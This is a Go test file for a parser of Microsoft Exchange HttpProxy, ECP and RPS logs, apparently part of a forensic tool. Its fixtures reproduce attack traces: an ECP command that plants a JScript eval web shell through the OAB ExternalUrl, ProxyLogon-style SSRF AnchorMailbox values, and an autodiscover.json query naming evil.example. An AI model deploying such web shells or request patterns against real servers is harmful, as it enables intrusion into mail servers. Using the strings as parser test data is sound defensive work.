package logs

import (
	"maps"
	"slices"
	"strings"
	"testing"
	"time"
)

const ecpPayloadCMD = `Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>''.Identity=''3f1b6c2e-7d4a-4a8e-9c1f-5b2d8e7a6c40''`

func TestExchangeCSV(t *testing.T) {
	iso := func(s string) time.Time {
		v, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	httpHead := "DateTime,RequestId,Protocol,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,RoutingHint,GenericErrors\n" +
		"#Software: Microsoft Exchange Server\n#Version: 15.01.2106.002\n#Log-type: HttpProxy Logs\n#Date: 2021-03-03T06:00:00.012Z\n" +
		"#Fields: DateTime,RequestId,Protocol,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,RoutingHint,GenericErrors\n"
	type want struct {
		line   int
		time   time.Time
		family string
		fields map[string]string
		absent []string
	}
	cases := []struct {
		name   string
		input  string
		path   string
		format Format
		family string
		want   []want
		check  func(t *testing.T, r result)
	}{
		{
			name: "HttpProxy with header block, family from the path",
			input: httpHead + lines(
				"2021-03-03T06:49:42.162Z,8c8b,Ecp,/ecp/y.js,ServerInfo~a]@exch01.contoso.local:444/autodiscover/autodiscover.xml?#,ExchangeServicesClient/0.0.0.0,203.0.113.7,200,X-BEResource-Cookie,"),
			path:   `D:\Exchange Server\V15\Logging\HttpProxy\Ecp\HttpProxy_2021030306-1.LOG`,
			format: FormatHttpProxy, family: "httpproxy/Ecp",
			want: []want{{line: 7, time: iso("2021-03-03T06:49:42.162Z"), family: "httpproxy/Ecp", fields: map[string]string{
				"UrlStem": "/ecp/y.js", "AnchorMailbox": "ServerInfo~a]@exch01.contoso.local:444/autodiscover/autodiscover.xml?#",
				"ClientIpAddress": "203.0.113.7", "clientipaddress": "203.0.113.7", "HttpStatus": "200", "GenericErrors": "",
			}}},
		},
		{
			name: "quoted values with doubled quotes and commas, family from Protocol",
			input: httpHead + lines(
				`2021-03-03T06:49:44.503Z,8c8c,Owa,/owa/auth/x.js,"ServerInfo~a]@b:444/x?a=1,2#","Mozilla/5.0 (KHTML, like Gecko)",203.0.113.7,241,X-BEResource-Cookie,"Exception=""System.Web.HttpException: ""bad, request"""""`,
				`2021-03-03T06:49:45.000Z,8c8d,"Ecp","/ecp/""q"".js",,,,500,,"trailing ""x"" then text"after`),
			path:   "HttpProxy_2021030306-1.LOG",
			format: FormatHttpProxy, family: "httpproxy",
			want: []want{
				{line: 7, family: "httpproxy/Owa", fields: map[string]string{
					"AnchorMailbox": "ServerInfo~a]@b:444/x?a=1,2#", "UserAgent": "Mozilla/5.0 (KHTML, like Gecko)",
					"GenericErrors": `Exception="System.Web.HttpException: "bad, request""`, "HttpStatus": "241",
				}},
				{line: 8, family: "httpproxy/Ecp", fields: map[string]string{
					"Protocol": "Ecp", "UrlStem": `/ecp/"q".js`, "AnchorMailbox": "", "GenericErrors": `trailing "x" then textafter`,
				}},
			},
		},
		{
			name: "older build with fewer columns, #Fields only",
			input: "#Software: Microsoft Exchange Server\n#Version: 15.00.1395.004\n#Log-type: HttpProxy Logs\n#Fields: DateTime,RequestId,UrlStem,AnchorMailbox,HttpStatus\n" +
				lines("2021-03-02T23:01:15.004Z,1b2e,/owa/auth/x.js,ServerInfo~localhost/ecp/default.flt?,500"),
			format: FormatHttpProxy,
			want: []want{{line: 5, time: iso("2021-03-02T23:01:15.004Z"), fields: map[string]string{
				"UrlStem": "/owa/auth/x.js", "AnchorMailbox": "ServerInfo~localhost/ecp/default.flt?"}, absent: []string{"RoutingHint", "UrlQuery"}}},
		},
		{
			name:   "header names only, no comment lines",
			input:  lines("DateTime,RequestId,UrlStem,AnchorMailbox,RoutingHint", "2021-03-03T06:49:42Z,1,/ecp/y.js,ServerInfo~a]@x:444/ecp/#,X-BEResource-Cookie"),
			format: FormatHttpProxy,
			want:   []want{{line: 2, time: iso("2021-03-03T06:49:42Z"), fields: map[string]string{"RoutingHint": "X-BEResource-Cookie"}}},
		},
		{
			name: "ragged and garbage rows",
			input: httpHead + lines(
				"2021-03-03T06:49:42.162Z,8c8b,Ecp,/ecp/y.js",
				"\x01\x02garbage,,,\xff",
				"2021-03-03T06:49:43.000Z,8c8c,Ecp,/ecp/z.js,a,b,c,200,d,e,extra1,extra2",
				"not-a-time,8c8d,Ecp,/ecp/w.js,a,b,c,200,d,e",
				strings.Repeat("x", 10)),
			format: FormatHttpProxy,
			want: []want{
				{line: 7, fields: map[string]string{"UrlStem": "/ecp/y.js"}, absent: []string{"HttpStatus"}},
				{line: 9, fields: map[string]string{"UrlStem": "/ecp/z.js", "GenericErrors": "e", "_10": "extra1", "_11": "extra2"}},
				{line: 10, fields: map[string]string{"UrlStem": "/ecp/w.js", "DateTime": "not-a-time"}},
			},
			check: func(t *testing.T, r result) {
				s := r.stats
				if s.Ragged != 2 || s.Malformed != 2 || s.BadTime != 1 {
					t.Errorf("Ragged %d Malformed %d BadTime %d", s.Ragged, s.Malformed, s.BadTime)
				}
				if !r.recs[2].Time.IsZero() {
					t.Error("bad time not zero")
				}
			},
		},
		{
			name: "quoted value across lines",
			input: httpHead + lines(
				`2021-03-03T06:49:42.162Z,8c8b,Ecp,/ecp/y.js,,,,500,,"System.Exception: boom`,
				`   at Microsoft.Exchange.HttpProxy.ProxyRequestHandler.Go()`,
				`   at end"`,
				`2021-03-03T06:49:43.000Z,8c8c,Ecp,/ecp/z.js,,,,200,,"open quote never closed`,
				`2021-03-03T06:49:44.000Z,8c8d,Ecp,/ecp/w.js,,,,200,,`),
			format: FormatHttpProxy,
			want: []want{
				{line: 7, fields: map[string]string{"GenericErrors": "System.Exception: boom\n   at Microsoft.Exchange.HttpProxy.ProxyRequestHandler.Go()\n   at end"}},
				{line: 10, fields: map[string]string{"UrlStem": "/ecp/z.js", "GenericErrors": "open quote never closed"}},
				{line: 11, fields: map[string]string{"UrlStem": "/ecp/w.js"}},
			},
		},
		{
			name: "repeated header line (concatenated files)",
			input: httpHead + lines("2021-03-03T06:49:42.162Z,1,Ecp,/a,,,,200,,") +
				httpHead + lines("2021-03-03T07:49:42.162Z,2,Ecp,/b,,,,200,,"),
			format: FormatHttpProxy,
			want:   []want{{line: 7, fields: map[string]string{"UrlStem": "/a"}}, {line: 14, fields: map[string]string{"UrlStem": "/b"}}},
			check: func(t *testing.T, r result) {
				if r.stats.Malformed != 0 || r.stats.HeaderChanges != 1 {
					t.Errorf("%+v", r.stats)
				}
			},
		},
		{
			name: "a different header further down (concatenated builds)",
			input: httpHead + lines("2021-03-03T06:49:42.162Z,1,Ecp,/a,,,,200,,") +
				lines("DateTime,UrlStem,HttpStatus", "2021-03-03T07:49:42.162Z,/b,302"),
			format: FormatHttpProxy,
			want: []want{
				{line: 7, fields: map[string]string{"UrlStem": "/a", "HttpStatus": "200"}},
				{line: 9, fields: map[string]string{"UrlStem": "/b", "HttpStatus": "302"}, absent: []string{"RequestId"}},
			},
			check: func(t *testing.T, r result) {
				if r.stats.HeaderChanges != 2 || r.stats.Ragged != 0 {
					t.Errorf("%+v", r.stats)
				}
			},
		},
		{
			name: "ECP Server log EventData",
			input: "TimeStamp,ServerName,EventId,EventData\n#Software: Microsoft Exchange Server\n#Version: 15.01.2106.002\n#Log-type: ECP Server Log\n#Date: 2021-03-03T00:00:01.447Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n" +
				lines(`2021-03-03T06:51:09.884Z,EXCH01,ECP.Request,"S:TIME=1534;S:SID=a8b7;S:CMD=`+strings.ReplaceAll(ecpPayloadCMD, `"`, `""`)+`;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=System.Exception: a=b; c;I32:ADS.C[DC1]=2;"`),
			path:   `C:\Program Files\Microsoft\Exchange Server\V15\Logging\ECP\Server\ECPServer20210303-1.LOG`,
			format: FormatECP, family: "ecp",
			want: []want{{line: 7, time: iso("2021-03-03T06:51:09.884Z"), fields: map[string]string{
				"EventId": "ECP.Request", "S:TIME": "1534", "S:SID": "a8b7", "S:CMD": ecpPayloadCMD, "S:REQID": "",
				"S:URL": "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory", "S:EX": "System.Exception: a=b; c", "I32:ADS.C[DC1]": "2",
			}}},
			check: func(t *testing.T, r result) {
				ev := get(t, r.recs[0], "EventData")
				if !strings.HasPrefix(ev, "S:TIME=1534;S:SID=a8b7;S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"JScript\"") {
					t.Errorf("EventData = %q", ev)
				}
			},
		},
		{
			name:   "ECP log named by its header alone",
			input:  lines("TimeStamp,ServerName,EventId,EventData", "2021-03-03T06:51:09.884Z,EXCH01,ECP.Request,S:CMD=Get-Mailbox;S:URL=/ecp/"),
			format: FormatECP,
			want:   []want{{line: 2, fields: map[string]string{"S:CMD": "Get-Mailbox", "S:URL": "/ecp/"}}},
		},
		{
			name:   "ECP rows without any header",
			input:  lines("2021-03-03T06:51:09.884Z,EXCH01,ECP.Request,S:CMD=Get-Mailbox;S:URL=/ecp/"),
			path:   "/cases/x/Logging/ECP/Server/ECPServer20210303-1.LOG",
			format: FormatECP,
			want:   []want{{line: 1, fields: map[string]string{"EventId": "ECP.Request", "S:CMD": "Get-Mailbox", "S:URL": "/ecp/"}}},
		},
		{
			name:   "CSV rows without a header that no built-in header fits",
			input:  lines("2021-03-03T06:51:09.884Z,EXCH01,X,Y,Z"),
			format: FormatUnknown,
		},
		{
			name: "RPS Http log",
			input: "DateTime,RequestId,UrlStem,AuthenticatedUser,CommandName,UrlQuery\n#Software: Microsoft Exchange Server\n#Log-type: Rps Http Logs\n" +
				lines("2022-09-29T10:04:41.118Z,5f0e,/Powershell,CONTOSO\\svc,New-ManagementRoleAssignment,?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3F@evil.example"),
			format: FormatRPS, family: "rps",
			want: []want{{line: 4, fields: map[string]string{"UrlStem": "/Powershell", "CommandName": "New-ManagementRoleAssignment"}}},
		},
		{
			name:   "RPS by header names",
			input:  lines("DateTime,RequestId,UrlStem,CommandName,ShellId", "2022-09-29T10:04:41Z,1,/Powershell,Get-Mailbox,abc"),
			format: FormatRPS,
			want:   []want{{line: 2, fields: map[string]string{"ShellId": "abc"}}},
		},
		{
			name:   "other Exchange log type",
			input:  "#Software: Microsoft Exchange Server\n#Version: 15.01.2176.009\n#Log-type: Message Tracking Log\n#Fields: date-time,client-ip,event-id,message-subject\n" + lines(`2021-11-03T08:00:32.100Z,192.0.2.5,RECEIVE,"Re: hello, world"`),
			format: FormatExchange, family: "exchange/Message Tracking Log",
			want: []want{{line: 5, time: iso("2021-11-03T08:00:32.100Z"), fields: map[string]string{"message-subject": "Re: hello, world"}}},
		},
		{
			name:   "time with offset",
			input:  "#Software: Microsoft Exchange Server\n#Log-type: EWS Logs\n#Fields: DateTime,X\n" + lines("2021-03-03T08:49:42.5+02:00,1", "2021-03-03 06:49:42,2"),
			format: FormatExchange, family: "exchange/EWS Logs",
			want: []want{
				{line: 4, time: iso("2021-03-03T06:49:42.5Z")},
				{line: 5, time: iso("2021-03-03T06:49:42Z")},
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			path := tc.path
			if path == "" {
				path = "test.LOG"
			}
			r := readAll(t, []byte(tc.input), path)
			if r.format != tc.format {
				t.Fatalf("format = %q, want %q (err %v)", r.format, tc.format, r.err)
			}
			if tc.format == FormatUnknown {
				return
			}
			if r.err != nil {
				t.Fatal(r.err)
			}
			if tc.family != "" && r.family != tc.family {
				t.Errorf("family = %q, want %q", r.family, tc.family)
			}
			if len(r.recs) != len(tc.want) {
				t.Fatalf("%d records, want %d (stats %+v)", len(r.recs), len(tc.want), r.stats)
			}
			for i, w := range tc.want {
				rec := r.recs[i]
				if rec.Line != w.line {
					t.Errorf("record %d: line %d, want %d", i, rec.Line, w.line)
				}
				if !w.time.IsZero() && !rec.Time.Equal(w.time) {
					t.Errorf("record %d: time %v, want %v", i, rec.Time, w.time)
				}
				if w.family != "" && rec.Family != w.family {
					t.Errorf("record %d: family %q, want %q", i, rec.Family, w.family)
				}
				for _, k := range slices.Sorted(maps.Keys(w.fields)) {
					if got := get(t, rec, k); got != w.fields[k] {
						t.Errorf("record %d: %s = %q, want %q", i, k, got, w.fields[k])
					}
				}
				for _, k := range w.absent {
					if _, ok := rec.Get(k); ok {
						t.Errorf("record %d: unexpected field %s", i, k)
					}
				}
			}
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
}

func TestEventDataParts(t *testing.T) {
	cases := []struct {
		in   string
		want []string // key=value
	}{
		{"", nil},
		{"S:A=1", []string{"S:A=1"}},
		{"S:A=1;", []string{"S:A=1"}},
		{"S:A=;S:B=x=y;z", []string{"S:A=", "S:B=x=y;z"}},
		{"junk;S:A=1;S:B='it''s; fine'", []string{"S:A=1", "S:B='it''s; fine'"}},
		{"S:CMD=" + ecpPayloadCMD + ";S:URL=/ecp/x", []string{"S:CMD=" + ecpPayloadCMD, "S:URL=/ecp/x"}},
		{"Dt:T=2021-03-03T06:51:09;F:L=1.5;Bl:Ok=True", []string{"Dt:T=2021-03-03T06:51:09", "F:L=1.5", "Bl:Ok=True"}},
		{"no parts here", nil},
		{"S:=1;:A=2;S:B", nil},
	}
	for _, tc := range cases {
		var got []string
		for k, v := range EventDataParts(tc.in) {
			got = append(got, k+"="+v)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("EventDataParts(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	// Early stop.
	n := 0
	for range EventDataParts("S:A=1;S:B=2;S:C=3") {
		n++
		break
	}
	if n != 1 {
		t.Errorf("break ignored")
	}
}

func TestExchangeFixtureFiles(t *testing.T) {
	hp := readFile(t, fixture("HttpProxy", "Ecp", "HttpProxy_2021030306-1.LOG"))
	if hp.err != nil || hp.format != FormatHttpProxy || hp.family != "httpproxy/Ecp" || len(hp.recs) != 4 {
		t.Fatalf("httpproxy: err %v %q %q, %d records %+v", hp.err, hp.format, hp.family, len(hp.recs), hp.stats)
	}
	if len(hp.recs[0].Names) != 74 || hp.stats.Ragged != 0 || hp.stats.Malformed != 0 {
		t.Errorf("%d names, %+v", len(hp.recs[0].Names), hp.stats)
	}
	if got := get(t, hp.recs[1], "GenericErrors"); got != `Exception="System.Web.HttpException: "bad, request""` {
		t.Errorf("GenericErrors = %q", got)
	}
	if got := get(t, hp.recs[2], "UrlQuery"); got != "?schema=ResetOABVirtualDirectory&msExchEcpCanary=x" {
		t.Errorf("UrlQuery = %q", got)
	}

	old := readFile(t, fixture("exchange2013", "HttpProxy_2021030223-1.LOG"))
	if old.err != nil || old.format != FormatHttpProxy || len(old.recs) != 1 || len(old.recs[0].Names) != 32 {
		t.Fatalf("old build: err %v %q, %d records", old.err, old.format, len(old.recs))
	}
	if rec := old.recs[0]; rec.Family != "httpproxy/Owa" || get(t, rec, "RoutingType") != "CrossRegion" || get(t, rec, "GenericErrors") != "InvalidOperationException" {
		t.Errorf("old build record: %q %v", rec.Family, rec.Values)
	}

	ecp := readFile(t, fixture("ECP", "Server", "ECPServer20210303-1.LOG"))
	if ecp.err != nil || ecp.format != FormatECP || len(ecp.recs) != 2 {
		t.Fatalf("ecp: err %v %q, %d records", ecp.err, ecp.format, len(ecp.recs))
	}
	if got := get(t, ecp.recs[1], "S:CMD"); got != ecpPayloadCMD {
		t.Errorf("S:CMD = %q", got)
	}
	if got := get(t, ecp.recs[0], "S:CMD"); got != `Get-OabVirtualDirectory.Identity='EXCH01\OAB (Default Web Site)'` {
		t.Errorf("S:CMD = %q", got)
	}

	rps := readFile(t, fixture("CmdletInfra", "Powershell-Proxy", "Http", "Rps_Http_2022092910-1.LOG"))
	if rps.err != nil || rps.format != FormatRPS || len(rps.recs) != 1 {
		t.Fatalf("rps: err %v %q, %d records", rps.err, rps.format, len(rps.recs))
	}
	if got := get(t, rps.recs[0], "UrlQuery"); !strings.Contains(got, "autodiscover.json%3F@") {
		t.Errorf("UrlQuery = %q", got)
	}
}

func TestHeaderlessHttpProxyRows(t *testing.T) {
	// Rows of a file cut before its header, 74 columns: the built-in header names them.
	vals := make([]string, len(httpProxyFields))
	vals[0], vals[9], vals[15] = "2021-03-03T06:49:42.162Z", "/ecp/y.js", "ServerInfo~a]@x:444/y#"
	data := lines(strings.Join(vals, ","), strings.Join(vals[:10], ","))
	r := readAll(t, []byte(data), `X:\Logging\HttpProxy\Ecp\HttpProxy_2021030306-2.LOG`)
	if r.format != FormatHttpProxy || len(r.recs) != 2 {
		t.Fatalf("%q %v, %d records %+v", r.format, r.err, len(r.recs), r.stats)
	}
	if got := get(t, r.recs[0], "AnchorMailbox"); got != vals[15] {
		t.Errorf("AnchorMailbox = %q", got)
	}
}
